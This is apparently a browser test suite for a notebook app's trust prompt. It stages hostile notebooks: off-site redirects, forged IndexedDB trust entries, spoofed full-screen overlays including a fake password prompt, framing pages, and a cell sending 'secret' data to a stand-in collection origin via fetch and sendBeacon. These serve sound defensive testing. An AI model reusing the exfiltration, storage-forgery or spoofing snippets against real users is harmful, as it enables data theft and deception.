/**
 * Hostile notebooks against the trust decision (issue #17, item 3) on the built site in headless
 * Chromium, with real loopback servers: redirects off the site, paths outside the notebook base,
 * forged autosaves and trusted-list entries, content laid over the trust question, framing pages, a
 * tab closed mid-run, and a cell sending data to an origin the notebook does not name.
 *
 * Code that `page.evaluate` runs here stands for a hostile cell: until cells run in a sandboxed
 * iframe they run in the page, with the same powers.
 */
import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Browser, Page } from "playwright-core";
import { shareFragment } from "../../src/ui/persistence/share-link.ts";
import { contentHash } from "../../src/ui/persistence/content-hash.ts";
import { launchChromium, openWatchedPage, type WatchedPage } from "./helpers/browser.ts";
import {
  INSECURE_CERT_ARGS,
  startHttpServer,
  startHttpsServer,
  startSiteWithRoutes,
  type LoopbackServer,
} from "./helpers/hostile-servers.ts";
import { repoRoot, SUB_PATH } from "./helpers/static-server.ts";
import { cellSnapshots, waitForSettled } from "./helpers/workbench.ts";
import { editCell } from "./helpers/persistence.ts";

let site: LoopbackServer & { baseUrl: string };
/** Another origin over HTTPS: serves notebooks and the data a notebook names. */
let elsewhere: LoopbackServer;
/** Another origin over HTTPS that a cell tries to send data to. */
let sink: LoopbackServer;
/** Another origin over plain HTTP with a page that frames the site. */
let framer: LoopbackServer;
let browser: Browser;
const pages: WatchedPage[] = [];

const CORS = { "Access-Control-Allow-Origin": "*" };
const MARKDOWN = { "Content-Type": "text/markdown; charset=utf-8" };

/** A notebook whose one TS cell counts its runs in `globalThis.__hostileRan` (and localStorage). */
function hostileNotebook(title: string, cell = "", frontMatter?: string): string {
  return [
    "---",
    `title: ${title}`,
    ...(frontMatter === undefined ? [] : [frontMatter]),
    "---",
    "",
    `# ${title}`,
    "",
    "```ts",
    "globalThis.__hostileRan = (globalThis.__hostileRan ?? 0) + 1;",
    'localStorage.setItem("hostile-starts", String(Number(localStorage.getItem("hostile-starts") ?? 0) + 1));',
    cell,
    "```",
    "",
  ].join("\n");
}

beforeAll(async () => {
  [site, elsewhere, sink, framer] = await Promise.all([
    startSiteWithRoutes(),
    startHttpsServer(),
    startHttpsServer(),
    startHttpServer(),
  ]);
  browser = await launchChromium(INSECURE_CERT_ARGS);
});

afterAll(async () => {
  await Promise.allSettled(pages.map((p) => p.close()));
  await browser?.close();
  await Promise.allSettled([site, elsewhere, sink, framer].map((s) => s?.close()));
});

async function open(): Promise<WatchedPage> {
  const w = await openWatchedPage(browser);
  pages.push(w);
  return w;
}

/**
 * Waits until the page shows the notebook, the engine is up (a trusted notebook would be running by
 * now) and a moment more, then says whether the hostile cell ran.
 */
async function hostileRuns(page: Page): Promise<number> {
  await page.waitForSelector("main[data-notebook-phase=ready][data-engine-phase=ready]");
  await page.waitForTimeout(800);
  return page.evaluate(() => (globalThis as { __hostileRan?: number }).__hostileRan ?? 0);
}

test("a ?notebook= address on the site that redirects to another origin shows the trust question and does not run", async () => {
  const away = `${elsewhere.origin}/notebooks/away.md`;
  elsewhere.route("/notebooks/away.md", {
    body: hostileNotebook("Redirected away"),
    headers: { ...CORS, ...MARKDOWN },
  });
  site.route(`${SUB_PATH}notebooks/moved.md`, { status: 302, headers: { Location: away } });
  const w = await open();
  await w.page.goto(`${site.baseUrl}?notebook=notebooks/moved.md`);
  await w.page.waitForSelector("[data-trust-banner]");
  expect(await hostileRuns(w.page)).toBe(0);
  // The question names where the text really came from, not the address asked for.
  expect(await w.page.locator("[data-trust-banner]").textContent()).toContain(away);
  expect(site.requests).toContain(`GET ${SUB_PATH}notebooks/moved.md`);
  expect(elsewhere.requests).toContain("GET /notebooks/away.md");

  await w.page.click("[data-trust-banner] [data-action=trust]");
  await expect.poll(() => w.page.evaluate(() => (globalThis as { __hostileRan?: number }).__hostileRan)).toBe(1);
});

test("only the site's notebook base is trusted: another path of the same origin, or a redirect to it, asks first", async () => {
  site.route(`${SUB_PATH}uploads/other-team.md`, { body: hostileNotebook("Another team's file"), headers: MARKDOWN });
  site.route(`${SUB_PATH}notebooks/to-uploads.md`, {
    status: 302,
    headers: { Location: `${SUB_PATH}uploads/other-team.md` },
  });
  // The test site's settings (test/browser/site/segbook-site.json) add __test-notebooks__/ to the base.
  site.route(`${SUB_PATH}__test-notebooks__/in-base.md`, { body: hostileNotebook("In the base"), headers: MARKDOWN });
  for (const [address, trusted] of [
    ["uploads/other-team.md", false],
    ["notebooks/to-uploads.md", false],
    ["notebooks/../uploads/other-team.md", false],
    ["__test-notebooks__/in-base.md", true],
  ] as const) {
    const w = await open();
    await w.page.goto(`${site.baseUrl}?notebook=${encodeURIComponent(address)}`);
    expect(await hostileRuns(w.page), address).toBe(trusted ? 1 : 0);
    expect(await w.page.locator("[data-trust-banner]").count(), address).toBe(trusted ? 0 : 1);
    await w.close();
  }
});

/** Writes `value` under `key` in the app's IndexedDB store, as any code in the page can. */
async function forgeStorage(page: Page, key: string, value: unknown): Promise<void> {
  await page.evaluate(
    async ([k, v]) => {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open("segbook");
        request.onupgradeneeded = () => request.result.createObjectStore("persistence");
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      await new Promise<void>((resolve, reject) => {
        const tx = db.transaction("persistence", "readwrite");
        tx.objectStore("persistence").put(v, k as string);
        tx.oncomplete = () => resolve();
        tx.onerror = () => reject(tx.error);
      });
      db.close();
    },
    [key, value] as const,
  );
}

test("a forged autosave of a trusted notebook and forged trusted-list entries grant nothing: Restore and share links ask first", async () => {
  const text = hostileNotebook("Forged autosave");
  const hash = await contentHash(text);
  const address = `${site.baseUrl}__test-notebooks__/edit.md`;
  const w = await open();
  await w.page.goto(`${site.baseUrl}?notebook=__test-notebooks__/edit.md`);
  await waitForSettled(w.page);
  // What a hostile cell can write with one line each: its text as another notebook's unsaved version,
  // and its hash in the trusted list (the old unsigned one, and the signed one without a signature).
  await forgeStorage(w.page, `autosave:url:${address}`, [
    { key: `url:${address}`, id: "forged", text, time: Date.now(), saved: false },
  ]);
  await forgeStorage(w.page, "trusted", [hash]);
  await forgeStorage(w.page, "trusted-signed", [{ hash, mac: "00".repeat(32) }]);

  await w.page.reload();
  await w.page.click("[data-recovery-banner] [data-action=restore]");
  await w.page.waitForSelector("[data-trust-banner]");
  expect(await hostileRuns(w.page)).toBe(0);

  // The same text as a share link: its hash is "in the trusted list", yet it asks.
  const shared = await open();
  await shared.page.goto(`${site.baseUrl}#${shareFragment({ text, from: "notebooks/welcome.md" })}`);
  await shared.page.waitForSelector("[data-trust-banner]");
  expect(await hostileRuns(shared.page)).toBe(0);
});

test("the user's own edits of a trusted notebook restore and run without asking (their hash is signed at the edit)", async () => {
  const w = await open();
  await w.page.goto(`${site.baseUrl}?notebook=__test-notebooks__/edit.md`);
  await waitForSettled(w.page);
  // Typed and run through the editor: the autosave and its trust come from the user's own action.
  await editCell(w.page, "const factor = 2", "const factor = 5;");
  await expect.poll(() => w.page.locator("[data-cell-kind=md]").last().textContent()).toContain("Total is 15.");
  await expect.poll(() => w.page.locator("[data-autosave]").getAttribute("data-autosave")).toBe("saved");
  // Leave without saving to a file (the autosave keeps the edit), then come back.
  const again = await w.context.newPage();
  await w.page.close({ runBeforeUnload: false });
  await again.goto(`${site.baseUrl}?notebook=__test-notebooks__/edit.md`);
  await again.click("[data-recovery-banner] [data-action=restore]");
  await waitForSettled(again);
  await expect.poll(() => again.locator("[data-cell-kind=md]").last().textContent()).toContain("Total is 15.");
  expect(await again.locator("[data-trust-banner]").count()).toBe(0);
});

/** Photographs the page in the light and the dark theme (for a reviewer to look at), back to light. */
async function shootBothThemes(page: Page, name: string): Promise<void> {
  const dir = path.join(repoRoot, "test-results", "screenshots");
  fs.mkdirSync(dir, { recursive: true });
  for (const theme of ["light", "dark"]) {
    if (theme === "dark") await page.locator("[data-theme-toggle]").click();
    await page.screenshot({ path: path.join(dir, `${name}-${theme}.png`) });
  }
  await page.locator("[data-theme-toggle]").click();
}

/** The element at the centre of `selector`'s box, as the page's hit testing sees it. */
async function topmostAtCentre(page: Page, selector: string): Promise<{ isTarget: boolean; what: string }> {
  return page.evaluate((sel) => {
    const target = document.querySelector(sel)!;
    const box = target.getBoundingClientRect();
    const hit = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    return { isTarget: hit === target, what: hit ? `${hit.tagName} ${hit.textContent?.slice(0, 40)}` : "nothing" };
  }, selector);
}

test("the trust question stays above anything the page draws: fixed overlays at the top z-index and later popovers", async () => {
  const w = await open();
  await w.page.goto(
    `${site.baseUrl}#${shareFragment({ text: hostileNotebook("Overlaid"), from: "notebooks/welcome.md" })}`,
  );
  await w.page.waitForSelector("[data-trust-banner] [data-action=trust]");
  await shootBothThemes(w.page, "trust-question");
  // What a timer left by a previous notebook's cell (or Markdown with styles) can draw over the page.
  await w.page.evaluate(() => {
    const overlay = document.createElement("div");
    overlay.id = "fake";
    overlay.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:#fff;font-size:40px";
    overlay.textContent = "✔ Verified notebook from this site";
    document.body.append(overlay);
  });
  // The overlay does cover the page ...
  expect(await w.page.evaluate(() => document.elementFromPoint(5, 5)?.id)).toBe("fake");
  // ... but not the question: the real Run is what a click at its place hits.
  expect(await topmostAtCentre(w.page, "[data-trust-banner] [data-action=trust]")).toMatchObject({ isTarget: true });

  // A top-layer element opened later (a popover of its own) is put back under the question.
  await w.page.evaluate(() => {
    const pop = document.createElement("div");
    pop.id = "fake-popover";
    pop.popover = "manual";
    pop.style.cssText = "position:fixed;inset:0;width:auto;height:auto;margin:0;background:#fff";
    pop.textContent = "Session expired: enter your password";
    document.body.append(pop);
    pop.showPopover();
  });
  expect(await w.page.evaluate(() => document.elementFromPoint(5, 5)?.id)).toBe("fake-popover");
  expect(await topmostAtCentre(w.page, "[data-trust-banner] [data-action=trust]")).toMatchObject({ isTarget: true });
  expect(await hostileRuns(w.page)).toBe(0);
});

test.each([
  ["a page of another origin", () => framer],
  ["a page of the same site", () => site],
])("framed by %s, Run is disabled and says why; nothing runs", async (_name, host) => {
  const app = `${site.baseUrl}#${shareFragment({ text: hostileNotebook("Framed"), from: "notebooks/welcome.md" })}`;
  host().route("/framer.html", {
    body: `<!doctype html><title>framer</title><iframe src="${app}" style="width:1200px;height:700px;border:0"></iframe>`,
    headers: { "Content-Type": "text/html; charset=utf-8" },
  });
  const w = await open();
  await w.page.goto(`${host().origin}/framer.html`);
  const frame = w.page.frameLocator("iframe");
  const run = frame.locator("[data-trust-banner] [data-action=trust]");
  await run.waitFor();
  expect(await run.isDisabled()).toBe(true);
  if (host() === framer) {
    fs.mkdirSync(path.join(repoRoot, "test-results", "screenshots"), { recursive: true });
    await w.page.screenshot({ path: path.join(repoRoot, "test-results", "screenshots", "trust-question-framed.png") });
  }
  expect(await frame.locator("[data-trust-banner]").textContent()).toMatch(/inside another page.*own tab/s);
  expect(await frame.locator("[data-action=open-unframed]").getAttribute("target")).toBe("_blank");
  await run.click({ force: true });
  const inner = w.page.frames().find((f) => f !== w.page.mainFrame())!;
  await inner.waitForSelector("main[data-engine-phase=ready]");
  await w.page.waitForTimeout(800);
  expect(await inner.evaluate(() => (globalThis as { __hostileRan?: number }).__hostileRan ?? 0)).toBe(0);
});

test("a tab closed while a notebook ran reopens it without running, says so, and runs it on Run", async () => {
  site.route(`${SUB_PATH}__test-notebooks__/long-run.md`, {
    body: hostileNotebook("Long run", "await new Promise((resolve) => setTimeout(resolve, 600_000));"),
    headers: MARKDOWN,
  });
  const address = `${site.baseUrl}?notebook=__test-notebooks__/long-run.md`;
  const w = await open();
  await w.page.goto(address);
  await w.page.waitForSelector("[data-cell-status=running]");
  expect(await w.page.evaluate(() => localStorage.getItem("hostile-starts"))).toBe("1");
  // The tab goes away mid-run (as a crash would: no chance to clean up).
  const again = await w.context.newPage();
  await w.page.close({ runBeforeUnload: false });

  await again.goto(address);
  await again.waitForSelector("[data-trust-banner][data-crashed]");
  expect(await again.locator("[data-trust-banner]").textContent()).toContain("was running when its tab closed");
  expect(await hostileRuns(again)).toBe(0);
  expect(await again.evaluate(() => localStorage.getItem("hostile-starts"))).toBe("1");

  await again.click("[data-trust-banner] [data-action=trust]");
  await expect.poll(() => again.evaluate(() => localStorage.getItem("hostile-starts"))).toBe("2");
  expect(await again.locator("[data-trust-banner]").count()).toBe(0);
});

test("a notebook whose run finished reopens and runs as usual (the mark is cleared when the cells settle)", async () => {
  site.route(`${SUB_PATH}__test-notebooks__/short-run.md`, { body: hostileNotebook("Short run"), headers: MARKDOWN });
  const address = `${site.baseUrl}?notebook=__test-notebooks__/short-run.md`;
  const w = await open();
  await w.page.goto(address);
  await waitForSettled(w.page);
  const again = await w.context.newPage();
  await w.page.close({ runBeforeUnload: false });
  await again.goto(address);
  expect(await hostileRuns(again)).toBe(1);
  expect(await again.locator("[data-trust-banner]").count()).toBe(0);
});

test("once a notebook from outside the site runs, a cell's fetch and sendBeacon to an origin it does not name are refused; its own data origin loads", async () => {
  elsewhere.route("/people.csv", {
    body: "id,name\n1,Ada\n2,Grace\n",
    headers: { ...CORS, "Content-Type": "text/csv" },
  });
  sink.route("/collect", { body: "thanks", headers: CORS });
  const cell = [
    "const named = await fetch(" +
      JSON.stringify(`${elsewhere.origin}/people.csv`) +
      ").then((r) => r.text(), (e) => 'refused');",
    "const other = await fetch(" +
      JSON.stringify(`${sink.origin}/collect?secret=42`) +
      ").then((r) => r.text(), (e) => 'refused');",
    "navigator.sendBeacon(" + JSON.stringify(`${sink.origin}/collect?beacon=1`) + ", 'x');",
    "`named:${named.length > 0 && named !== 'refused'} other:${other}`;",
  ].join("\n");
  // A share link: anyone's notebook, run after one click on Run.
  const text = hostileNotebook("Named origin", cell, `data:\n  people:\n    path: ${elsewhere.origin}/people.csv`);
  const w = await open();
  const violations: string[] = [];
  await w.page.exposeFunction("__violation", (v: string) => violations.push(v));
  await w.page.addInitScript(() =>
    document.addEventListener("securitypolicyviolation", (e) =>
      (window as unknown as { __violation(v: string): void }).__violation(`${e.effectiveDirective} ${e.blockedURI}`),
    ),
  );
  await w.page.goto(`${site.baseUrl}#${shareFragment({ text, from: "notebooks/welcome.md" })}`);
  await w.page.click("[data-trust-banner] [data-action=trust]");
  await waitForSettled(w.page);
  const statuses = await cellSnapshots(w.page);
  expect(
    statuses.every((c) => c.status === "ok"),
    JSON.stringify(statuses),
  ).toBe(true);
  expect(await w.page.locator("[data-cell-kind=ts]").first().textContent()).toContain("named:true other:refused");
  expect(await w.page.locator("[data-source-status]").first().getAttribute("data-source-status")).toBe("ok");
  // The beacon is queued and refused later: give it time to arrive, were it allowed.
  await expect
    .poll(() => violations.filter((v) => v.startsWith("connect-src") && v.includes(sink.origin)).length)
    .toBe(2);
  await w.page.waitForTimeout(500);
  expect(sink.requests).toEqual([]);

  // Adding data from another origin by hand in this tab is refused with the reason and the way out.
  await w.page.fill('input[aria-label="Data URL"]', `${sink.origin}/collect.csv`);
  await w.page.press('input[aria-label="Data URL"]', "Enter");
  await expect
    .poll(() => w.page.locator(".url ~ .error[role=alert], p.error[role=alert]").first().textContent())
    .toMatch(/connects only to the site and https:\/\/127\.0\.0\.1:\d+\. Open the site in a new tab/);
  expect(sink.requests).toEqual([]);
});
